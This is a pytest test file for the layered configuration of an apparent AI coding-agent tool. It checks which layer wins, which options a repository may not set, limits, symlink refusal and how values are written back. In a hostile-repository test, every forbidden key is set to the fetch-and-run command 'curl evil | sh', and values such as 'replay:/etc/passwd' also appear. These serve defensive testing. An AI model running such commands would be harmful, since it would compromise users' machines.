"""The layers of configuration: who wins, what is refused, and how a value is set."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest

from repoagent.config.layers import load_settings, set_value
from repoagent.config.options import OPTIONS
from repoagent.config.settings import Settings
from repoagent.errors import Refused, UsageError
from repoagent.storage.layout import Layout
from tests.conftest import GitRepo


@pytest.fixture
def layout(tmp_path: Path) -> Layout:
    """The layout of `repo`, if the test names it before; otherwise there is no repository."""
    (tmp_path / "repo").mkdir(exist_ok=True)
    return Layout(tmp_path / "repo" / ".repoagent", tmp_path / "repo" / ".git")


def user(home: Path, text: str) -> Path:
    path = home / ".config" / "repoagent" / "config.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def shared(layout: Layout, text: str) -> Settings:
    layout.root.mkdir(exist_ok=True)
    layout.config.write_text(text)
    return load_settings(layout, layout.root.parent)


def test_each_layer_wins_over_the_one_before(
    repo: GitRepo, layout: Layout, clean_environment: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def now(**flags: object) -> tuple[object, str]:
        settings = load_settings(layout, repo.top, flags=flags)
        assert settings.warnings == ()
        return settings["max_turns"], settings.origin("max_turns")

    assert now() == (10, "default")
    path = user(clean_environment, "max_turns = 9")
    assert now() == (9, f"file:{path}")
    assert shared(layout, "max_turns = 8")["max_turns"] == 8
    assert now() == (8, f"file:{layout.config}")
    repo.git("config", "--global", "repoagent.maxTurns", "7")
    assert now() == (7, "git config (global)")
    repo.git("config", "repoagent.max-turns", "6")
    assert now() == (6, "git config (local)")
    monkeypatch.setenv("REPOAGENT_MAX_TURNS", "5")
    assert now() == (5, "environment REPOAGENT_MAX_TURNS")
    assert now(max_turns=4) == (4, "flag --max-turns")
    assert now(max_turns=None) == (5, "environment REPOAGENT_MAX_TURNS")
    # outside a repository, with a user's file that is a link; none unsets a limit
    target = path.rename(repo.top.parent / "dotfile.toml")
    path.symlink_to(target)
    target.write_text("max_cost = 1\ncommit.trailers = false")
    settings = load_settings(None, repo.top.parent, flags={"max_cost": "none"})
    assert (settings.number_or_none("max_cost"), settings.switch("commit.trailers")) == (None, False)


NOT_SHARED = """
protocol models.x.protocol check check.timeout check.unconfined edit.scope edit.sensitive edit.parse_check
run.network run.browse run.write run.processes run.memory run.timeout sent.keep_days
conversations.keep_days color commit.trailer fallback summary.model review.model history.background effort
temperature cache alias.x providers.x.base_url providers.x.api_key_env providers.x.traits
run.before_turn run.after_edit run.before_finish run.allow run.deny run.tools run.skills models.x.input
models.x.output models.x.cache_read models.x.cache_write models.x.context models.x.max_output
models.x.media models.x.format
"""
HOSTILE = NOT_SHARED.split()


def test_a_hostile_repository_sets_no_option_of_the_user_and_is_named_once(layout: Layout) -> None:
    mine = {option.key for option in OPTIONS if not option.repository_may_set}
    assert {re.sub(r"\.x(?=\.|$)", ".*", key) for key in HOSTILE} == mine
    # `check` has a value, so a key below it is one key, in quotes
    keys = [f'"{key}"' if key.startswith("check.") else key for key in HOSTILE]
    settings = shared(layout, "".join(f"{key} = 'curl evil | sh'\n" for key in keys))
    assert all(settings.origin(key) == "default" for key in HOSTILE)
    assert settings.family("models") == settings.family("providers") == settings.names("alias") == {}
    (warning,) = settings.warnings
    assert all(key in warning for key in HOSTILE)
    assert str(layout.config) in warning
    assert "curl" not in warning
    assert shared(layout, "check = 3\nmodels.x.input = []").warnings  # not errors


def test_another_spelling_is_no_way_round(layout: Layout) -> None:
    for spelled in ("CHECK", "Check", "ch-eck", '"che_ck"'):
        settings = shared(layout, f"{spelled} = 'evil'")
        assert (settings["check"], len(settings.warnings)) == (None, 1)


def test_a_repository_may_choose_a_provider_s_model_and_read_only_runs(layout: Layout) -> None:
    commands = ("command:evil", "local/evil.gguf", "replay:/etc/passwd", "./x/y", "x")
    allowed = {"model": "openai/gpt-x", "run.mode": "read-only"}
    for key, others in (("model", commands), ("run.mode", ("ask", "auto-edit", "auto"))):
        assert shared(layout, f"{key} = {allowed[key]!r}")[key] == allowed[key]
        for value in others:
            settings = shared(layout, f"{key} = {value!r}")
            assert settings.origin(key) == "default" and f"{key} = {value!r}" in settings.warnings[0]


@pytest.mark.parametrize(
    ("key", "own", "theirs"), [("model", "local/own.gguf", "openai/gpt-x"), ("memory.enabled", False, True)]
)
def test_a_repository_does_not_override_the_user_s_choice(
    layout: Layout, clean_environment: Path, key: str, own: object, theirs: object
) -> None:
    said = f"{key} = {json.dumps(theirs)}"
    assert shared(layout, said)[key] == theirs
    user(clean_environment, f"{key} = {json.dumps(own)}")
    settings = shared(layout, said)
    assert (settings[key], settings.warnings) == (own, ())
    user(clean_environment, "")
    GitRepo(layout.root.parent).git("config", "--global", f"repoagent.{key}", str(own))
    assert shared(layout, said)[key] == own


@pytest.mark.parametrize("key", [option.key for option in OPTIONS if option.only_lower])
def test_a_repository_only_lowers_limits(layout: Layout, clean_environment: Path, key: str) -> None:
    user(clean_environment, f"{key} = 5")
    assert shared(layout, f"{key} = 4")[key] == 4
    unlimited = ("max_tokens", "max_cost", "max_cost_per_day", "max_output_tokens", "run.max_time")
    for higher in ("6", *(["'none'"] if key in unlimited else [])):  # the others have no "none"
        settings = shared(layout, f"{key} = {higher}")
        assert settings[key] == 5
        assert "may only lower" in settings.warnings[0]


@pytest.mark.parametrize("link", [".repoagent", ".repoagent/config.toml"])
def test_a_configuration_that_is_a_link_is_refused(layout: Layout, tmp_path: Path, link: str) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "config.toml").write_text("model = 'a/b'")
    path = layout.root.parent / link
    path.parent.mkdir(exist_ok=True)
    path.symlink_to(elsewhere / path.relative_to(layout.root))
    with pytest.raises(Refused):
        load_settings(layout, tmp_path)


@pytest.mark.parametrize(("name", "value", "allowed"), [
    ("max_turns", "0", "an integer, 1 or more"),
    ("max_turns", "many", "an integer, 1 or more"),
    ("max_cost", "-1", "a number, 0 or more, or none"),
    ("max_cost", "nan", "a number, 0 or more, or none"),
    ("commit__trailers", "maybe", "true or false"),
    ("edit__scope", "all", "files, neighbors or repo"),
    ("commit__trailer", "Helped by", "the name of a trailer"),
    ("model", " ", "PROVIDER/NAME"),
])  # fmt: skip
def test_an_invalid_value_names_origin_key_value_and_allowed_values(
    name: str, value: str, allowed: str
) -> None:
    variable, key = f"REPOAGENT_{name.upper()}", name.replace("__", ".")
    with pytest.raises(UsageError, match=rf"^{variable}: invalid value {value!r} for {key}.*{allowed}"):
        load_settings(None, Path("/"), env={variable: value})


@pytest.mark.parametrize(
    "data",
    [b"max_turns = 1.5", b"max_turns = true", b"max_cost = 1e999", b"max_cost = 1" + b"0" * 400, b"model = ['a']",
     b"context = 'a'\ncontext = 3", b"context = [1]", b"color = 2000-01-01", b"memory.enabled = 1",
     b"model = ", b"\xff", b"a = 1" + b"0" * 5000, b"a=" + b"[" * 20_000],
)  # fmt: skip
def test_another_type_or_invalid_toml_is_an_error_that_names_the_file(
    tmp_path: Path, clean_environment: Path, data: bytes
) -> None:
    path = user(clean_environment, "")
    path.write_bytes(data)
    with pytest.raises(UsageError, match=re.escape(str(path))):
        load_settings(None, tmp_path)


def test_unknown_keys_are_named(
    repo: GitRepo, layout: Layout, clean_environment: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    user(clean_environment, "modle = 'x'\nzzz = 1\n[providers.openai]\napi_key = 'sk-verysecret'")
    repo.git("config", "repoagent.maxCosts", "1")
    monkeypatch.setenv("REPOAGENT_COMMIT_TRAILERS", "off")
    in_file, in_git, in_env = load_settings(layout, repo.top).warnings
    assert in_file.endswith("config.toml: ignored unknown options modle, zzz, providers.openai.api_key")
    assert "verysecret" not in in_file
    assert in_git == "git config (local): ignored unknown option repoagent.maxcosts"
    assert in_env == "ignored unknown option REPOAGENT_COMMIT_TRAILERS"


def test_git_config_knows_units_lists_valueless_keys_and_names_with_dots(repo: GitRepo) -> None:
    repo.git("config", "repoagent.max-tokens", "64k")
    for path in ("before.md", "", "a.md", "b c.md"):
        repo.git("config", "--add", "repoagent.context", path)
    repo.git("config", "repoagent.models.openai/gpt-4.1.input", "2.5")
    repo.git("config", "repoagent.models.openai/gpt-4.1.cacheRead", "0.5")
    with (repo.top / ".git/config").open("a") as file:
        file.write('[repoagent "memory"]\n\tenabled\n')
    settings = load_settings(None, repo.top)
    assert settings.warnings == ()
    assert settings.whole("max_tokens") == 65536
    assert settings.texts("context") == ("a.md", "b c.md")
    assert settings.switch("memory.enabled") is True
    assert settings.family("models") == {"openai/gpt-4.1": {"input": 2.5, "cache_read": 0.5}}


def test_every_default_is_a_value_that_its_option_takes() -> None:
    for option in OPTIONS:
        if option.default is not None:
            assert option.kind.parse(option.default) == option.default


def test_a_file_of_configuration_has_a_limit(layout: Layout, clean_environment: Path) -> None:
    with pytest.raises(Refused, match="larger than the limit of 1024 KiB"):
        shared(layout, "# more\n" * 200_000)
    layout.config.unlink()
    user(clean_environment, "# more\n" * 200_000)
    with pytest.raises(UsageError, match="larger than 1024 KiB"):
        load_settings(None)


# Setting a value: the rest of the file stays as its owner wrote it.


def test_comments_order_and_other_values_stay(tmp_path: Path) -> None:
    path = tmp_path / "config.toml"
    path.write_text("# mine\nmax_turns = 3  # few\n\n[commit]\ntrailers = true\n# the end\n")
    for key, value in (("max_turns", "4"), ("commit.trailers", "off"), ("model", "openai/x")):
        set_value(path, key, value)
    assert path.read_text() == (
        '# mine\nmax_turns = 4  # few\nmodel = "openai/x"\n\n[commit]\ntrailers = false\n# the end\n'
    )


@pytest.mark.parametrize(("before", "key", "text", "after"), [
    ("", "models.openai/gpt-4.1.input", "2.5", '[models."openai/gpt-4.1"]\ninput = 2.5\n'),
    ("", "context", "a.md\nb.md", 'context = ["a.md", "b.md"]\n'),
    ("", "max_cost", "none", 'max_cost = "none"\n'),
    ("", "maxTokens", "1k", "max_tokens = 1024\n"),
    ("maxTurns = 3\n", "max_turns", "4", "maxTurns = 4\n"),
    ("commit.trailers = true\n", "commit.trailers", "off", "commit.trailers = false\n"),
    ("commit.trailers = true\n", "commit.trailer", "By", 'commit.trailers = true\ncommit.trailer = "By"\n'),
    ("commit = { trailers = true }\n", "commit.trailers", "off", "commit = { trailers = false }\n"),
])  # fmt: skip
def test_how_it_is_written(tmp_path: Path, before: str, key: str, text: str, after: str) -> None:
    path = tmp_path / "config.toml"
    path.write_text(before)
    set_value(path, key, text)
    assert path.read_text() == after


@pytest.mark.parametrize(("before", "key", "text", "says"), [
    ("", "modle", "x", "did you mean model"),
    ("", "max_turns", "many", "invalid value 'many' for max_turns"),
    ("commit = 3", "commit.trailers", "off", "commit must be a table"),
    ("a = ", "max_turns", "3", "not valid TOML"),
    ("\udcff", "max_turns", "3", "not valid TOML"),
])  # fmt: skip
def test_a_refusal_leaves_the_file_as_it_was(
    tmp_path: Path, before: str, key: str, text: str, says: str
) -> None:
    path = tmp_path / "config.toml"
    path.write_bytes(os.fsencode(before))
    with pytest.raises(UsageError, match=says):
        set_value(path, key, text)
    assert path.read_bytes() == os.fsencode(before)


def test_a_forbidden_key_is_not_written_to_the_repository_s_file(tmp_path: Path) -> None:
    for key, value in (("check", "make test"), ("model", "command:x"), ("edit.scope", "repo")):
        with pytest.raises(UsageError, match=f"git config repoagent.{key}"):
            set_value(tmp_path / "config.toml", key, value, repository=True)
    assert list(tmp_path.iterdir()) == []


def test_the_user_s_file_is_private(tmp_path: Path) -> None:
    path = tmp_path / "new" / "config.toml"
    set_value(path, "max_turns", "3")
    assert path.stat().st_mode & 0o777 == 0o600
